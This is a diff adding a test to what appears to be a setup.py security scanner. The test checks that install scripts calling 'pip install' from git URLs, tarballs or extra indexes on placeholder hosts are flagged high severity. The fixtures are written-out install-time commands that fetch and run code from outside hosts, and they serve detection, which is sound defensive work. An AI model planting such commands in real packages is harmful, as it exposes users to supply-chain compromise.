@@ -165,6 +165,24 @@ def test_library_flag_tools_and_pip_on_the_tree_itself_are_build_steps() -> None
     assert [f.severity for f in other] == [Severity.MEDIUM]
 
 
+def test_pip_installing_from_an_address_outside_the_index_is_high() -> None:
+    for command in (
+        "[sys.executable, '-m', 'pip', 'install', 'git+https://git.x.invalid/u/tool.git']",
+        "'pip install https://files.x.invalid/tool-1.0.tar.gz'",
+        "'pip3 install --extra-index-url http://203.0.113.9/simple tool'",
+    ):
+        findings = _setup(
+            "import subprocess, sys\nfrom setuptools import setup\n"
+            f"subprocess.call({command}, shell=True)\nsetup()\n"
+        )
+        assert [(f.rule, f.severity) for f in findings] == [("PV-INS-001", Severity.HIGH)], command
+        assert "outside the package index" in findings[0].message
+    named = _setup(
+        "import subprocess\nfrom setuptools import setup\nsubprocess.call('pip install tool==1.0')\nsetup()\n"
+    )
+    assert [f.severity for f in named] == [Severity.MEDIUM]
+
+
 _BUILD_EXT = (
     "import subprocess\n"
     "from setuptools import setup\n"
